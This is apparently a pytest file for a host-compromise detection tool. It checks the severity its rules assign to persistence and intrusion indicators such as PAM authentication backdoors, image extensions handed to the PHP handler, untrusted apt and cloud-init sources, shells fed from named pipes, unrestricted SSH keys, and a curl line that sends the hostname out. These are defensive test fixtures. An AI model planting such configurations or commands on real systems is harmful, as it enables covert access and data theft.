"""What a line means by where it stands: its block, the directory that it starts in, the unit of its process."""

from __future__ import annotations

from pathlib import Path

import pytest

from stopgap.orchestrator.findings import judge, shipped_rules
from stopgap.orchestrator.findings.provenance.acts import acts_of
from stopgap.orchestrator.findings.provenance.commands import programs
from stopgap.orchestrator.findings.provenance.context import absolute, in_blocks, starts_in
from stopgap.orchestrator.severity import SEVERITIES

from .collection import collected

DIGESTS = (
    "d41d8cd98f00b204e9800998ecf8427e  usr/bin/perl\n"
    "d41d8cd98f00b204e9800998ecf8427e  usr/bin/dash\n"
    "d41d8cd98f00b204e9800998ecf8427e  usr/sbin/varnishd\n"
    "d41d8cd98f00b204e9800998ecf8427e  usr/lib/systemd/system/postgrey.service\n"
)
PROGRAM = "0|{}|1|{}|0|0|9|1.0|1.0|1.0|0.0\n"
LINK = "0|/proc/7/{} -> {}|1|lrwxrwxrwx|0|0|0|1.0|1.0|1.0|0.0\n"
FILES = '<FilesMatch "{}">\n SetHandler application/x-httpd-php\n</FilesMatch>\n'
RULES = shipped_rules()


def severities(tmp_path: Path, planted: dict[str, object]) -> dict[str, str]:
    """Give the worst severity of each rule."""
    found = judge(collected(tmp_path, {"package-digests": DIGESTS, "configuration": {}, **planted}), RULES).findings
    worst_last = sorted(found, key=lambda finding: SEVERITIES.index(finding.severity), reverse=True)
    return {finding.id: finding.severity for finding in worst_last if finding.severity != "info"}


@pytest.mark.parametrize(
    ("line", "directory", "found"),
    [
        ("cd /opt/x && ./run.sh; bin/next", "", ("cd", "/opt/x/run.sh", "/opt/x/bin/next")),
        (".cache/sync -d", "/home/ann", ("/home/ann/.cache/sync",)),
        ("cd work; ./run", "", ("cd", "./run")),
        ("sh -c './x'", "/srv", ("/srv/x",)),
        ("make", "/srv", ("make",)),
    ],
)
def test_a_relative_program_is_the_one_below_where_the_line_starts(
    line: str, directory: str, found: tuple[str, ...]
) -> None:
    assert programs(line, directory) == found


def test_commands_start_at_home_in_the_work_tree_or_where_the_job_was_made() -> None:
    assert starts_in("/var/spool/cron/crontabs/ann", []) == "/home/ann"
    assert starts_in("/var/spool/cron/root", []) == "/root"
    assert starts_in("/srv/site/.git/config", []) == "/srv/site"
    assert starts_in("/var/spool/cron/atjobs/a00003", [(3, "cd /home/ann || {")]) == "/home/ann"
    assert starts_in("/etc/cron.d/x", []) == ""
    assert absolute("../bin/x", "/srv/site") == "/srv/bin/x"


def test_blocks_are_followed_to_their_ends_however_many_are_left_open() -> None:
    lines = [(1, '<FilesMatch "png">'), (2, "</FilesMatch>"), (3, "SetHandler php")]
    assert list(in_blocks(lines))[2] == (3, "SetHandler php")
    assert len(list(in_blocks([(n, "location / {") for n in range(5000)]))) == 5000


@pytest.mark.parametrize(
    ("archive", "path", "text", "program"),
    [
        ("git-hooks", "/srv/a/.git/config", "[diff]\n\ttextconv = .git/lfs/x\n", "/srv/a/.git/lfs/x"),
        ("cron", "/var/spool/cron/atjobs/a3", "cd /var/lib/misc || {\n exit 1\n}\n./x\n", "/var/lib/misc/x"),
        ("cron", "/etc/cron.d/x", "5 * * * * root cd /var/lib/misc && ./x\n", "/var/lib/misc/x"),
    ],
)  # fmt: skip
def test_a_program_that_is_named_from_where_the_line_starts_is_judged_by_where_it_lies(
    tmp_path: Path, archive: str, path: str, text: str, program: str
) -> None:
    body = PROGRAM.format(program, "-rwxr-xr-x")
    found = severities(tmp_path, {archive: {path: text}, "bodyfile": body})
    assert {"medium", "high"} & {*found.values()}


@pytest.mark.parametrize(
    ("path", "text", "rule", "severity"),
    [
        ("/etc/pam.d/sshd", "auth sufficient pam_userdb.so db=/srv/x\n", "mechanism-authentication", "high"),
        ("/etc/security/group.conf", "login;*;ann;Al0000-2400;games,shadow\n", "mechanism-authentication", "high"),
        ("/etc/security/capability.conf", "cap_dac_override ann\n", "mechanism-authentication", "high"),
        ("/etc/apache2/x.conf", FILES.format(r"\.(svg|woff2)$"), "mechanism-web", "medium"),
        ("/etc/nginx/x.conf", "location ~ \\.png$ {\n fastcgi_pass unix:/run/p;\n}\n", "mechanism-web", "medium"),
        ("/etc/ld.so.conf.d/00-vendor.conf", "/opt/vendor/lib64\n", "mechanism-loader", "medium"),
        ("/etc/default/grub.d/x.cfg", 'GRUB_EARLY_INITRD_LINUX_CUSTOM="x.img"\n', "mechanism-boot", "medium"),
        ("/etc/cloud/cloud.cfg.d/x.cfg", "    seedfrom: http://198.51.100.9/s/\n", "mechanism-container", "medium"),
        ("/etc/apt/sources.list.d/x.list", "deb http://198.51.100.9/d b main\n", "mechanism-trust", "medium"),
    ],
)  # fmt: skip
def test_settings_that_let_in_run_or_load_what_no_package_settles_are_told(
    tmp_path: Path, path: str, text: str, rule: str, severity: str
) -> None:
    assert severities(tmp_path, {"configuration": {path: text}})[rule] == severity


@pytest.mark.parametrize(
    ("path", "text"),
    [
        ("/etc/pam.d/vsftpd", "auth sufficient pam_userdb.so db=/etc/vsftpd/users\n"),
        ("/etc/pam.d/sshd", "auth sufficient pam_sss.so\n"),
        ("/etc/security/group.conf", "xsh;tty*&!ttyp*;us;Al0000-2400;games, floppy\n# x;*;ann;Al;shadow\n"),
        ("/etc/apache2/x.conf", FILES.format(r".+\.ph(?:ar|p|tml)$")),
        ("/etc/nginx/conf.d/x.conf", "location ~ \\.php$ {\n fastcgi_pass x;\n}\nlocation ~ css$ {\n expires 1d;}\n"),
        ("/etc/apt/sources.list.d/x.list", "deb http://10.0.0.9/debian bookworm main\n"),
        ("/etc/nftables.conf", "tcp dport 2222 dnat to 10.20.0.40:22\n"),
        ("/etc/ld.so.conf.d/vendor.conf", "/opt/vendor/lib64\n"),
    ],
)  # fmt: skip
def test_the_same_as_it_is_usual_raises_nothing_above_low(tmp_path: Path, path: str, text: str) -> None:
    assert {*severities(tmp_path, {"configuration": {path: text}}).values()} <= {"low"}


def process(words: tuple[str, ...], program: str, **more: str) -> dict[str, object]:
    mapped = "/proc/{}/maps:7f00-7f01 r-xp 0 08:01 9 {}\n"
    return {
        "processes": "/proc/7/stat:7 (x) S 1 7 7 0 -1 4194560 0\n",
        "process-arguments": "".join(f"/proc/7/cmdline:{word}\n" for word in words),
        "process-links": LINK.format("exe", program) + LINK.format("cwd", "/") + more.get("links", ""),
        "process-environments": "/proc/1/environ:A=1\n",
        "process-code": mapped.format(1, "/sbin/init") + mapped.format(7, more.get("maps", program)),
        "process-relations": more.get("relations", ""),
        "bodyfile": more.get("bodyfile", ""),
    }


def test_a_shell_that_takes_its_commands_from_a_named_pipe_is_told_and_one_at_a_terminal_is_not(
    tmp_path: Path,
) -> None:
    pipe = PROGRAM.format("/var/spool/x", "prw-------")
    fed = process(("sh", "-i"), "/usr/bin/dash", links=LINK.format("fd/0", "/var/spool/x"), bodyfile=pipe)
    assert severities(tmp_path / "a", fed)["running-foreign"] == "high"
    at_terminal = process(("sh", "-i"), "/usr/bin/dash", links=LINK.format("fd/0", "/dev/pts/0"), bodyfile=pipe)
    assert severities(tmp_path / "b", at_terminal).get("running-foreign") != "high"


def test_a_daemon_of_a_packages_unit_may_write_its_title_over_its_environment_and_no_other_may(
    tmp_path: Path,
) -> None:
    group = "/sys/fs/cgroup/system.slice/{}.service/cgroup.procs:7\n"
    daemon = process(("postgrey --inet=10023",), "/usr/bin/perl", relations=group.format("postgrey"))
    assert "running-foreign" not in severities(tmp_path / "a", daemon)
    other = process(("postgrey --inet=10023",), "/usr/bin/perl", relations=group.format("other"))
    assert severities(tmp_path / "b", other)["running-foreign"] == "medium"


def test_a_library_that_a_daemon_compiled_into_its_own_state_is_quiet_and_another_programs_is_not(
    tmp_path: Path,
) -> None:
    library = "/var/lib/varnish/varnishd/vcl_boot.1/vgc.so"
    body = PROGRAM.format(library, "-rwxr-xr-x")
    own = process(("varnishd",), "/usr/sbin/varnishd", maps=library, bodyfile=body)
    assert "loaded-foreign" not in severities(tmp_path / "a", own)
    other = process(("perl", "-e", "1"), "/usr/bin/perl", maps=library, bodyfile=body)
    assert severities(tmp_path / "b", other)["loaded-foreign"] == "medium"


def test_what_was_stopped_and_started_on_one_line_is_an_administrators_work(tmp_path: Path) -> None:
    line = "systemctl stop clamav-daemon; freshclam; systemctl start clamav-daemon\n"
    assert severities(tmp_path / "a", {"histories": {"/root/.bash_history": line}}) == {}
    stopped = "systemctl stop clamav-daemon; systemctl start other\n"
    assert "history-defences" in severities(tmp_path / "b", {"histories": {"/root/.bash_history": stopped}})


def test_a_scanner_of_rootkits_is_no_rootkit_and_a_count_behind_a_fetch_is_no_upload(tmp_path: Path) -> None:
    typed = {"/root/.bash_history": "rkhunter --check; chkrootkit -q\n"}
    assert severities(tmp_path, {"histories": typed}) == {}
    assert acts_of('curl -s https://a.example/l >/x && [ "$(wc -l </x)" -gt 9 ]') == ()
    assert acts_of("curl -s https://a.example/$(hostname)") == ("upload",)


def test_a_key_that_starts_one_command_is_told_low_and_one_that_gives_a_shell_high(tmp_path: Path) -> None:
    key = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIC2AVObrip1rw0W6lPvo4lB3YGnd4Wh/n0R24JwhtSP6 a@b\n"
    for number, (options, severity) in enumerate(
        (
            ('restrict,command="borg serve --restrict-to-path /srv" ', "low"),
            ('command="/bin/bash" ', "high"),
            ("", "high"),
        )
    ):
        found = severities(tmp_path / str(number), {"ssh": {"/srv/backup/.ssh/authorized_keys": options + key}})
        assert found["key-of-service"] == severity


def test_a_program_may_have_ports_below_1024_and_no_other_power_of_root_without_being_loud(tmp_path: Path) -> None:
    powers = "/usr/local/bin/{} {}=ep\n"
    low = {"capabilities": powers.format("gitea", "cap_net_bind_service")}
    assert severities(tmp_path / "a", low)["capabilities-unpackaged"] == "low"
    high = {"capabilities": powers.format("x", "cap_net_bind_service,cap_net_admin")}
    assert severities(tmp_path / "b", high)["capabilities-unpackaged"] == "high"


def test_a_page_in_a_folder_of_images_that_a_package_brought_elsewhere_is_quiet(tmp_path: Path) -> None:
    page = {"/srv/shop/htdocs/lib/images/build.php": ""}
    known = DIGESTS + "d41d8cd98f00b204e9800998ecf8427e  usr/share/dokuwiki/lib/images/build.php\n"
    assert "web-program-in-uploads" not in severities(tmp_path / "a", {"web-code": page, "package-digests": known})
    other = {"/srv/shop/htdocs/lib/images/build.php": "<?php echo 1;"}
    assert "web-program-in-uploads" in severities(tmp_path / "b", {"web-code": other, "package-digests": known})
